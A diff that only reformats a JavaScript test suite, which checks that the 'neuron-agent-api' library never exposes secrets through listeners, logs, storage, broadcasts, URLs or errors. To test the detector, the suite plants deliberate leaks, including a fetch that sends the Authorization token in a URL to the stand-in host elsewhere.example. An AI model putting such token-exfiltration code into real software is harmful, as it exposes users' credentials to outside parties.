@@ -65,8 +65,11 @@ class Secrets {
   *forms() {
     for (const secret of this.#all) {
       const inXml = secret
-        .replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;")
-        .replaceAll('"', "&quot;").replaceAll("'", "&apos;");
+        .replaceAll("&", "&amp;")
+        .replaceAll("<", "&lt;")
+        .replaceAll(">", "&gt;")
+        .replaceAll('"', "&quot;")
+        .replaceAll("'", "&apos;");
       const forms = [
         secret,
         JSON.stringify(secret).slice(1, -1),
@@ -175,7 +178,9 @@ class Channel {
  */
 const QUOTES = [
   (url, { method, headers, body }) =>
-    `${method} ${url} ${Object.entries(headers).map((pair) => pair.join(": ")).join("\n")}\n${body}`,
+    `${method} ${url} ${Object.entries(headers)
+      .map((pair) => pair.join(": "))
+      .join("\n")}\n${body}`,
   (_, { body }) => String(body),
   (_, { headers }) => JSON.stringify(headers),
   (_, { body }) => `bad request: ${String(body).slice(20)}`,
@@ -226,8 +231,7 @@ before(async () => {
   // A page that has nothing but what the library may touch.
   const known = { visibilityState: "visible", addEventListener() {}, removeEventListener() {} };
   const document = new Proxy(known, {
-    get: (page, name) =>
-      name in page ? Reflect.get(page, name) : note("DOM", `document.${String(name)}`),
+    get: (page, name) => (name in page ? Reflect.get(page, name) : note("DOM", `document.${String(name)}`)),
     set(_, name, value) {
       note("DOM", `document.${String(name)}`, value);
       return true;
@@ -258,7 +262,12 @@ before(async () => {
   };
   ({ AgentAPI: agent } = await import(`${import.meta.resolve("neuron-agent-api")}?canary`));
   agent.IO.SetLogLevel("debug");
-  for (const [group, name] of [["IO", "OnRequest"], ["IO", "OnResponse"], ["IO", "OnRetry"], ["Account", "OnSessionChange"]]) {
+  for (const [group, name] of [
+    ["IO", "OnRequest"],
+    ["IO", "OnResponse"],
+    ["IO", "OnRetry"],
+    ["Account", "OnSessionChange"],
+  ]) {
     callOf(agent, `${group}.${name}`, [
       (/** @type {unknown} */ event) => note(name, inspect(event, { depth: 9, showHidden: true })),
     ]);
@@ -338,7 +347,9 @@ async function callWithSecrets(method, encoding) {
 /** @type {(typeof mode)[]} */
 const MODES = [400, 401, 403, 404, 429, 500, 503, 200, 204, 307, "network", "session"];
 
-test("no secret of any method is shown, whatever the broker quotes", { timeout: 120_000 }, async (context) => {
+test("no secret of any method is shown, whatever the broker quotes", {
+  timeout: 120_000,
+}, async (context) => {
   const methods = everyCall().map(([method]) => method);
   assert.deepEqual([...methods, ...SYNCHRONOUS].sort(), allMethods().sort());
   const outcomes = new Map();
@@ -361,7 +372,19 @@ test("no secret of any method is shown, whatever the broker quotes", { timeout: 
     }
   }
   // What a listener, a log line and a broadcast show was really looked at.
-  for (const place of ["OnRequest", "OnResponse", "OnRetry", "OnSessionChange", "URL", "error", "channel", "storage", "console.debug", "console.info", "console.warn"]) {
+  for (const place of [
+    "OnRequest",
+    "OnResponse",
+    "OnRetry",
+    "OnSessionChange",
+    "URL",
+    "error",
+    "channel",
+    "storage",
+    "console.debug",
+    "console.info",
+    "console.warn",
+  ]) {
     assert.ok(places.has(place), `${place} was never used: nothing is tested there`);
   }
   assert.ok(!places.has("DOM"), "the page was touched");
@@ -375,9 +398,11 @@ const PLANTED = {
   "console.debug": (_, { headers }) => console.debug("sending", headers),
   "console.log": (_, { headers }) => console.log(`${headers.Authorization}!`),
   OnRequest: (_, { headers }) => agent.IO.OnRequest(() => note("OnRequest", headers.Authorization)),
-  channel: (_, { headers }) => new BroadcastChannel("x").postMessage({ token: headers.Authorization.slice(7) }),
+  channel: (_, { headers }) =>
+    new BroadcastChannel("x").postMessage({ token: headers.Authorization.slice(7) }),
   storage: (_, { headers }) => sessionStorage.setItem("last", headers.Authorization),
-  URL: (_, { headers }) => void fetch(`https://elsewhere.example/?${encodeURIComponent(headers.Authorization)}`, { headers: {} }),
+  URL: (_, { headers }) =>
+    void fetch(`https://elsewhere.example/?${encodeURIComponent(headers.Authorization)}`, { headers: {} }),
   error: (_, { body }) => {
     throw new Error(`can't send ${body}`);
   },
@@ -400,7 +425,10 @@ for (const [place, leak] of Object.entries(PLANTED)) {
     plant = () => {};
     await pause(5);
     const found = leaks(observed, secrets);
-    assert.ok(found.some((line) => line.startsWith(`${place} told `)), `nothing was found in ${place}`);
+    assert.ok(
+      found.some((line) => line.startsWith(`${place} told `)),
+      `nothing was found in ${place}`,
+    );
   });
 }
 
@@ -417,6 +445,9 @@ test("a leak in an event of a listener is found", async (context) => {
   await pause(5);
   const found = leaks(observed, secrets);
   for (const place of ["OnRequest", "OnResponse", "console.debug"]) {
-    assert.ok(found.some((line) => line.startsWith(`${place} told `)), `nothing was found in ${place}`);
+    assert.ok(
+      found.some((line) => line.startsWith(`${place} told `)),
+      `nothing was found in ${place}`,
+    );
   }
 });
